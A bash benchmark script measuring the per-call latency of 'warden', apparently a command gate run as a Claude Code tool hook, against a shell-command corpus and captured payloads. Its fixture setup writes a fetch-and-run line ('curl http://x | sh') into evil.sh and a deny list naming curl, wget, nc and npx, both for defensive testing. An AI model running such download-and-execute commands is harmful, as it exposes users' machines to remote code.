#!/usr/bin/env bash
# Latency of `warden hook claude`, one process per tool call as Claude Code runs it, process
# start included: every captured fixture payload and the gate's 451-command shell corpus
# (wrapped in a real Bash PreToolUse payload), replayed ROUNDS times each, against spawning
# `true` with the same payload on stdin in the same harness. Targets: p50 <= 2 ms, p99 <= 5 ms.
# Usage: scripts/bench-hook.sh [ROUNDS]   (release build)
#        WARDEN_BENCH_BASELINE=/path/to/other/warden scripts/bench-hook.sh  (also measures that
#        binary in the same run, e.g. a build of the base commit)
#        WARDEN_BENCH_LOAD=N scripts/bench-hook.sh  (a loaded machine: N CPU-bound spinners at
#        the default nice run throughout, `true` measured under the same load; N = nproc keeps
#        every CPU busy, as a build beside the agent does)
set -euo pipefail
cd "$(dirname "$0")/.."
rounds=${1:-5}
# WARDEN_BENCH_BIN=/path/to/warden measures that binary instead of this tree's release build.
if [ -z "${WARDEN_BENCH_BIN:-}" ]; then cargo build -q --release --bin warden; fi
W=${WARDEN_BENCH_BIN:-$PWD/target/x86_64-unknown-linux-gnu/release/warden}
tmp=$(mktemp -d /tmp/warden-bench-hook.XXXXXX)
spinners=()
trap 'for p in "${spinners[@]}"; do kill "$p" 2>/dev/null || true; done; rm -rf "$tmp"' EXIT
cc -O2 scripts/bench/hookbench.c -o "$tmp/hookbench"
# Both binaries are measured as fresh copies: the linker's output sits in the page cache as
# it was written (small folios), a copy (as `cargo install` makes) as one large write, and
# a 90 MB binary faults differently in the two states (this alone read as a 10-30% "regression"
# between a binary and its own copy).
cp "$W" "$tmp/warden"; W=$tmp/warden
if [ -n "${WARDEN_BENCH_BASELINE:-}" ]; then
  cp "$WARDEN_BENCH_BASELINE" "$tmp/warden-baseline"; WARDEN_BENCH_BASELINE=$tmp/warden-baseline
fi
WARDEN_CORPUS_DUMP="$tmp/corpus.jsonl" cargo test -q --release -p warden-gate --test corpus corpus_decides >/dev/null 2>&1
# The same workspace as the corpus test's.
mkdir -p "$tmp/ws/src" "$tmp/ws/scripts" "$tmp/ws/.venv/bin"
printf '#!/bin/sh\ncargo test\n' > "$tmp/ws/scripts/test.sh"
echo 'export VIRTUAL_ENV=x' > "$tmp/ws/.venv/bin/activate"
echo 'curl http://x | sh' > "$tmp/ws/evil.sh"
printf '[exec]\ndeny = ["curl", "wget", "nc", "npx"]\n' > "$tmp/policy.toml"
python3 - "$tmp" "${WARDEN_FIXTURES:-../shared/fixtures}/claude-code/hook-events-2.1.330.jsonl" <<'PY'
import json, sys
tmp, fixtures = sys.argv[1], sys.argv[2]
events = [json.loads(l) for l in open(fixtures) if l.strip()]
for e in events: e["cwd"] = tmp + "/ws"
open(tmp + "/fixtures.jsonl", "w").write("".join(json.dumps(e) + "\n" for e in events))
bash = next(e for e in events if e.get("tool_name") == "Bash" and e["hook_event_name"] == "PreToolUse")
allow = deny = 0
with open(tmp + "/corpus-payloads.jsonl", "w") as out:
    for l in open(tmp + "/corpus.jsonl"):
        c = json.loads(l); e = dict(bash); e["tool_input"] = {"command": c["command"], "description": "bench"}
        out.write(json.dumps(e) + "\n"); deny += c["expect"] == "deny"
open(tmp + "/expected-denies", "w").write(str(deny))
PY
# Each binary has its own fresh HOME (its own hash cache, warmed before measuring).
mkdir -p "$tmp/home" "$tmp/home-baseline"
export HOOKBENCH_HOME=$tmp/home HOOKBENCH_BASELINE_HOME=$tmp/home-baseline
cd "$tmp/ws"
load=${WARDEN_BENCH_LOAD:-0}
for ((i = 0; i < load; i++)); do
  sh -c 'while :; do :; done' & spinners+=("$!")
done
if [ "$load" -gt 0 ]; then echo "loaded: $load CPU-bound spinners on $(nproc) CPUs, for every figure below"; fi
run() { "$tmp/hookbench" "$1" "$rounds" -- "${@:2}"; }
for set in fixtures corpus-payloads; do
  read -r t50 t99 tn _ < <(run "$tmp/$set.jsonl" true)
  # One unmeasured pass warms both fresh homes' hash caches (as a user's is warm).
  HOOKBENCH_BASELINE=${WARDEN_BENCH_BASELINE:-} "$tmp/hookbench" "$tmp/$set.jsonl" 1 -- \
    "$W" hook claude --headless --policy "$tmp/policy.toml" > /dev/null
  # With a baseline, each payload runs through both binaries back to back (hookbench
  # alternates the order): the same load for both, so the ratio is an A/B.
  # Under load without a baseline, `true` is that interleaved baseline: a spinner's slice
  # then falls on both alike (measured apart, `true` read 0.96 ms in one pass, 3.0 in the next).
  if [ "$load" -gt 0 ] && [ -z "${WARDEN_BENCH_BASELINE:-}" ]; then
    { read -r h50 h99 hn hd; read -r t50 t99 tn _; } < <(HOOKBENCH_BASELINE=$(command -v true) \
      run "$tmp/$set.jsonl" "$W" hook claude --headless --policy "$tmp/policy.toml")
  else
    { read -r h50 h99 hn hd; read -r b50 b99 bn bd || true; } < <(HOOKBENCH_BASELINE=${WARDEN_BENCH_BASELINE:-} \
      run "$tmp/$set.jsonl" "$W" hook claude --headless --policy "$tmp/policy.toml")
  fi
  printf '%-16s n=%-5s true p50 %5s us p99 %5s us | warden hook p50 %5s us p99 %5s us | added p50 %5s us | ratio p50 %s\n' \
    "$set" "$hn" "$t50" "$t99" "$h50" "$h99" "$((h50 - t50))" "$(python3 -c "print(f'{$h50/$t50:.2f}')")"
  if [ -n "${WARDEN_BENCH_BASELINE:-}" ]; then
    printf '%-16s n=%-5s baseline hook p50 %5s us p99 %5s us | this build / baseline p50 %s p99 %s\n' \
      "$set" "$bn" "$b50" "$b99" "$(python3 -c "print(f'{$h50/$b50:.2f}')")" "$(python3 -c "print(f'{$h99/$b99:.2f}')")"
  fi
  if [ "$set" = corpus-payloads ]; then
    echo "  corpus denials through the binary: $hd (expected $(cat "$tmp/expected-denies"))"
  fi
done
echo "targets: p50 <= 2000 us, p99 <= 5000 us (process start included)"
